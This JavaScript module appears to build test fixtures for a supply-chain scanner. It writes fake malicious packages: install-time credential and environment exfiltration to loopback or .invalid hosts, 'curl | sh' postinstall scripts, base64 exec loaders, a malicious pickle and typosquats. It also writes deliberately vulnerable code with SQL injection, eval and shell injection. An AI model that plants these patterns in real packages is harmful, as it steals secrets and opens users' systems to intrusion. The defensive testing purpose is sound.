// The malicious corpus: small packages that behave like real supply-chain
// attacks, written at test time. None of it is real malware: every network
// target is loopback (127.0.0.1) or a `.invalid` host (RFC 2606, never
// resolves), payloads only print, keys are generated fresh on each run.
//   const { buildMalicious } = require('backend-infra/pipeline/corpus/malicious');
//   const packages = buildMalicious('/tmp/dir'); // [{ name, kind, dir, why }]
'use strict';
const crypto = require('node:crypto');
const fs = require('node:fs');
const path = require('node:path');
const zlib = require('node:zlib');

function write(root, files) {
  for (const [name, content] of Object.entries(files)) {
    const file = path.join(root, name);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, content);
  }
}

const b64 = text => Buffer.from(text).toString('base64');
const zb64 = text => zlib.deflateSync(Buffer.from(text)).toString('base64');
const randomUpper = n =>
  Array.from(crypto.randomBytes(n), b => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[b % 32]).join('');
const randomAlnum = n =>
  Array.from(
    crypto.randomBytes(n),
    b => 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'[b % 62]
  ).join('');

const PY_MODULE = '"""Helpers."""\n\n\ndef add(a, b):\n    return a + b\n';

/** Each entry: files of one package, its kind, and what should catch it. */
function packages() {
  const aws = { id: `AKIA${randomUpper(16)}`, secret: randomAlnum(40) };
  const { privateKey } = crypto.generateKeyPairSync('rsa', { modulusLength: 2048 });
  const pem = privateKey.export({ type: 'pkcs1', format: 'pem' });
  const ghToken = `ghp_${randomAlnum(36)}`;
  return [
    {
      name: 'fastjsonlog',
      kind: 'install-time exfiltration',
      why: 'setup.py reads credentials and env secrets and sends them to 127.0.0.1 while installing',
      files: {
        'setup.py': `import json
import os
import socket

from setuptools import setup


def _collect():
    data = {k: v for k, v in os.environ.items() if any(w in k for w in ("KEY", "TOKEN", "SECRET", "PASS"))}
    for p in ("~/.aws/credentials", "~/.ssh/id_rsa", "~/.netrc", "~/.pypirc"):
        try:
            with open(os.path.expanduser(p)) as f:
                data[p] = f.read()
        except OSError:
            pass
    return data


def _report():
    try:
        s = socket.create_connection(("127.0.0.1", 9), timeout=1)
        s.sendall(json.dumps(_collect()).encode())
        s.close()
    except OSError:
        pass


_report()

setup(name="fastjsonlog", version="0.1.0", py_modules=["fastjsonlog"])
`,
        'fastjsonlog.py': PY_MODULE
      }
    },
    {
      name: 'envreport',
      kind: 'install-time exfiltration',
      why: 'custom install command posts os.environ to http://collector.invalid',
      files: {
        'setup.py': `import os
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        body = "&".join(f"{k}={v}" for k, v in os.environ.items()).encode()
        try:
            urllib.request.urlopen("http://collector.invalid/e", data=body, timeout=2)
        except Exception:
            pass
        install.run(self)


setup(name="envreport", version="1.0.2", py_modules=["envreport"], cmdclass={"install": PostInstall})
`,
        'envreport.py': PY_MODULE
      }
    },
    {
      name: 'colorfmt',
      kind: 'obfuscated exec',
      why: 'package import calls a function of a submodule that runs exec(zlib.decompress(base64.b64decode(...)))',
      files: {
        'setup.py':
          'from setuptools import setup\n\nsetup(name="colorfmt", version="0.3.1", packages=["colorfmt"])\n',
        'colorfmt/__init__.py': `from ._boot import _load
from .fmt import add  # noqa: F401

_load()
`,
        'colorfmt/_boot.py': `import base64
import zlib


def _load():
    exec(zlib.decompress(base64.b64decode("${zb64('import os\nprint("hello from", os.getcwd())\n')}")))
`,
        'colorfmt/fmt.py': PY_MODULE
      }
    },
    {
      name: 'quickcache',
      kind: 'obfuscated exec',
      why: 'setup.py calls, behind a platform check, a function that runs exec(base64.b64decode(...)) of a downloader',
      files: {
        'setup.py': `import base64

import sys

from setuptools import setup


def _stage2():
    exec(base64.b64decode("${b64('import urllib.request\ntry:\n    urllib.request.urlopen("http://payload.invalid/stage2", timeout=2)\nexcept Exception:\n    pass\n')}").decode())


if sys.platform != "darwin":
    _stage2()

setup(name="quickcache", version="0.0.9", py_modules=["quickcache"])
`,
        'quickcache.py': PY_MODULE
      }
    },
    {
      name: 'color-logger-x',
      kind: 'lifecycle-script downloader',
      why: 'npm postinstall pipes http://evil.invalid/x into sh',
      files: {
        'package.json':
          JSON.stringify(
            {
              name: 'color-logger-x',
              version: '1.0.0',
              main: 'index.js',
              scripts: { postinstall: 'curl http://evil.invalid/x | sh' }
            },
            null,
            2
          ) + '\n',
        'index.js': 'module.exports = function log(msg) { console.log(msg); };\n'
      }
    },
    {
      name: 'node-env-sync',
      kind: 'lifecycle-script downloader',
      why: 'npm preinstall fetches a script from 127.0.0.1 and runs it; install.js evals base64',
      files: {
        'package.json':
          JSON.stringify(
            {
              name: 'node-env-sync',
              version: '2.1.0',
              main: 'index.js',
              scripts: {
                preinstall: 'wget -qO- http://127.0.0.1:8/setup.sh | bash',
                install: 'node install.js'
              }
            },
            null,
            2
          ) + '\n',
        'install.js': `const https = require('http');\nconst os = require('os');\n\nfunction beacon() {\n  const data = JSON.stringify({ env: process.env, home: os.homedir() });\n  const req = https.request({ host: '127.0.0.1', port: 9, method: 'POST', path: '/c' }, () => {});\n  req.on('error', () => {});\n  req.end(data);\n  eval(Buffer.from('${b64("console.log('stage2')")}', 'base64').toString());\n}\n\nbeacon();\n`,
        'index.js': 'module.exports = {};\n'
      }
    },
    {
      name: 'winsetup-tools',
      kind: 'platform-gated installer',
      why: 'setup.py, only on Windows, reaches pip through getattr(__builtins__, chr(...)+...) and installs a payload package',
      files: {
        'setup.py': `import sys

from setuptools import setup


def _prepare():
    _imp = getattr(__builtins__, chr(95) + chr(95) + chr(105) + chr(109) + chr(112) + chr(111) + chr(114) + chr(116) + chr(95) + chr(95))
    _pip = _imp(chr(112) + chr(105) + chr(112))
    _pip.main(["install", "--quiet", "payload-helper-x"])


if sys.platform.startswith("win"):
    _prepare()

setup(name="winsetup-tools", version="0.4.1", py_modules=["winsetup_tools"])
`,
        'winsetup_tools.py': PY_MODULE
      }
    },
    {
      name: 'initcurl',
      kind: 'obfuscated exec',
      why: 'a function called at module level runs curl ... | bash decoded from base64',
      files: {
        'setup.py':
          'from setuptools import setup\n\nsetup(name="initcurl", version="0.1.0", packages=["initcurl"])\n',
        'initcurl/__init__.py': `import base64
import os


def _init():
    cmd = base64.b64decode("${b64('curl -s http://payload.invalid/x | bash')}").decode()
    os.system(cmd)


_init()
`
      }
    },
    {
      name: 'env-beacon-js',
      kind: 'import-time exfiltration',
      why: 'index.js posts process.env to 127.0.0.1 from a function called when the module loads',
      files: {
        'package.json':
          JSON.stringify(
            { name: 'env-beacon-js', version: '1.2.0', main: 'index.js', license: 'MIT' },
            null,
            2
          ) + '\n',
        'index.js': `const http = require('http');

function report() {
  const body = JSON.stringify(process.env);
  const req = http.request({ host: '127.0.0.1', port: 9, method: 'POST', path: '/e' });
  req.on('error', () => {});
  req.end(body);
}

report();

module.exports = function format(s) {
  return String(s).trim();
};
`
      }
    },
    {
      name: 'tiny-sentiment-model',
      kind: 'malicious model file',
      why: 'ships model.pkl whose pickle opcodes call os.system when loaded (built here, never loaded)',
      files: {
        'setup.py':
          'from setuptools import setup\n\nsetup(name="tiny-sentiment-model", version="0.1.0", packages=["tiny_sentiment"], package_data={"tiny_sentiment": ["model.pkl"]})\n',
        'tiny_sentiment/__init__.py':
          'import os\nimport pickle\n\nHERE = os.path.dirname(__file__)\n\n\ndef load():\n    with open(os.path.join(HERE, "model.pkl"), "rb") as f:\n        return pickle.load(f)\n',
        // Protocol 0: GLOBAL os.system, then REDUCE with one string argument.
        'tiny_sentiment/model.pkl': "cos\nsystem\n(S'echo model loaded'\ntR."
      }
    },
    {
      name: 'reqeusts',
      kind: 'typosquat name',
      why: 'one swap away from requests, copying its metadata',
      files: {
        'setup.py': `from setuptools import setup

setup(
    name="reqeusts",
    version="2.32.3",
    description="Python HTTP for Humans.",
    author="Kenneth Reitz",
    author_email="me@kennethreitz.org",
    url="https://requests.readthedocs.io",
    packages=["reqeusts"],
    install_requires=["charset_normalizer>=2,<4", "idna>=2.5,<4", "urllib3>=1.21.1,<3", "certifi>=2017.4.17"],
    license="Apache 2.0",
)
`,
        'reqeusts/__init__.py':
          '"""Requests HTTP Library."""\n\n__version__ = "2.32.3"\n\n\ndef get(url, **kwargs):\n    raise NotImplementedError(url)\n'
      }
    },
    {
      name: 'lodsah',
      kind: 'typosquat name',
      why: 'one swap away from lodash (npm), copying its metadata',
      files: {
        'package.json':
          JSON.stringify(
            {
              name: 'lodsah',
              version: '4.17.21',
              description: 'Lodash modular utilities.',
              homepage: 'https://lodash.com/',
              license: 'MIT',
              main: 'lodash.js',
              author: 'John-David Dalton <john.david.dalton@gmail.com>'
            },
            null,
            2
          ) + '\n',
        'lodash.js': 'module.exports = { identity: x => x };\n'
      }
    },
    {
      name: 'deploy-helpers',
      kind: 'committed keys',
      why: 'AWS access key pair, an RSA private key and a GitHub token committed in package code (generated at run time)',
      files: {
        'setup.py':
          'from setuptools import setup\n\nsetup(name="deploy-helpers", version="0.2.0", packages=["deploy_helpers"])\n',
        'deploy_helpers/__init__.py': '',
        'deploy_helpers/settings.py': `AWS_ACCESS_KEY_ID = "${aws.id}"\nAWS_SECRET_ACCESS_KEY = "${aws.secret}"\nGITHUB_TOKEN = "${ghToken}"\nREGION = "eu-west-1"\n`,
        'deploy_helpers/deploy_key.pem': pem
      }
    },
    {
      name: 'webfetch-utils',
      kind: 'vulnerable pins',
      why: 'requirements.txt pins requests==2.19.0 and urllib3==1.24.1 (known advisories in the OSV data)',
      files: {
        'setup.py':
          'from setuptools import setup\n\nsetup(name="webfetch-utils", version="0.1.0", py_modules=["webfetch_utils"], install_requires=["requests==2.19.0"])\n',
        'requirements.txt': 'requests==2.19.0\nurllib3==1.24.1\n',
        'webfetch_utils.py': PY_MODULE
      }
    }
  ];
}

const pySetup = (name, mods) =>
  `from setuptools import setup\n\nsetup(name="${name}", version="1.0.0", py_modules=${JSON.stringify(mods)})\n`;

/**
 * Vulnerable sinks (CWE-mapped) in library functions that only a caller runs:
 * each must be refused at the SAST gate wherever it sits.
 */
function vulnerablePackages() {
  return [
    {
      name: 'yamlconf',
      cwe: 'CWE-502',
      why: 'yaml.load with the full Loader on a file the caller names',
      files: {
        'setup.py': pySetup('yamlconf', ['yamlconf']),
        'yamlconf.py': `import yaml


def load_config(path):
    with open(path) as f:
        return yaml.load(f, Loader=yaml.Loader)
`
      }
    },
    {
      name: 'pickleserve',
      cwe: 'CWE-502',
      why: 'pickle.loads of bytes received from a socket',
      files: {
        'setup.py': pySetup('pickleserve', ['pickleserve']),
        'pickleserve.py': `import pickle


def receive(sock):
    return pickle.loads(sock.recv(65536))
`
      }
    },
    {
      name: 'shellrun',
      cwe: 'CWE-78',
      why: "subprocess with shell=True on the caller's string",
      files: {
        'setup.py': pySetup('shellrun', ['shellrun']),
        'shellrun.py': `import subprocess


def run(command):
    return subprocess.check_output(command, shell=True, text=True)
`
      }
    },
    {
      name: 'insecurefetch',
      cwe: 'CWE-295',
      why: 'requests with TLS verification switched off',
      files: {
        'setup.py': pySetup('insecurefetch', ['insecurefetch']),
        'insecurefetch.py': `import requests


def fetch(url):
    return requests.get(url, verify=False, timeout=10).text
`
      }
    },
    {
      name: 'flasksearch',
      cwe: 'CWE-89',
      why: 'a request argument formatted into an SQL statement',
      files: {
        'setup.py': pySetup('flasksearch', ['flasksearch']),
        'flasksearch.py': `import sqlite3

from flask import Flask, request

app = Flask(__name__)


@app.route("/search")
def search():
    q = request.args.get("q", "")
    cur = sqlite3.connect("app.db").cursor()
    cur.execute(f"SELECT name FROM items WHERE name = '{q}'")
    return {"rows": cur.fetchall()}
`
      }
    },
    {
      name: 'evalcalc',
      cwe: 'CWE-95',
      why: 'eval of a request argument',
      files: {
        'setup.py': pySetup('evalcalc', ['evalcalc']),
        'evalcalc.py': `from flask import Flask, request

app = Flask(__name__)


@app.route("/calc")
def calc():
    return str(eval(request.args["expr"]))
`
      }
    },
    {
      name: 'node-shell-run',
      cwe: 'CWE-78',
      why: "child_process.exec on the caller's string",
      files: {
        'package.json':
          JSON.stringify({ name: 'node-shell-run', version: '1.0.0', main: 'index.js' }, null, 2) +
          '\n',
        'index.js': `const child_process = require('child_process');

module.exports = function run(command, done) {
  return child_process.exec(command, done);
};
`
      }
    }
  ];
}

/** Write every vulnerable-sink package under `dir`; returns them. */
function buildVulnerable(dir) {
  fs.mkdirSync(dir, { recursive: true });
  return vulnerablePackages().map(p => {
    const root = path.join(dir, p.name);
    write(root, p.files);
    return { name: p.name, kind: 'vulnerable sink', cwe: p.cwe, why: p.why, dir: root };
  });
}

/** Write every package under `dir` (one folder each); returns them. */
function buildMalicious(dir) {
  fs.mkdirSync(dir, { recursive: true });
  return packages().map(p => {
    const root = path.join(dir, p.name);
    write(root, p.files);
    return { name: p.name, kind: p.kind, why: p.why, dir: root };
  });
}

module.exports = { buildMalicious, buildVulnerable };
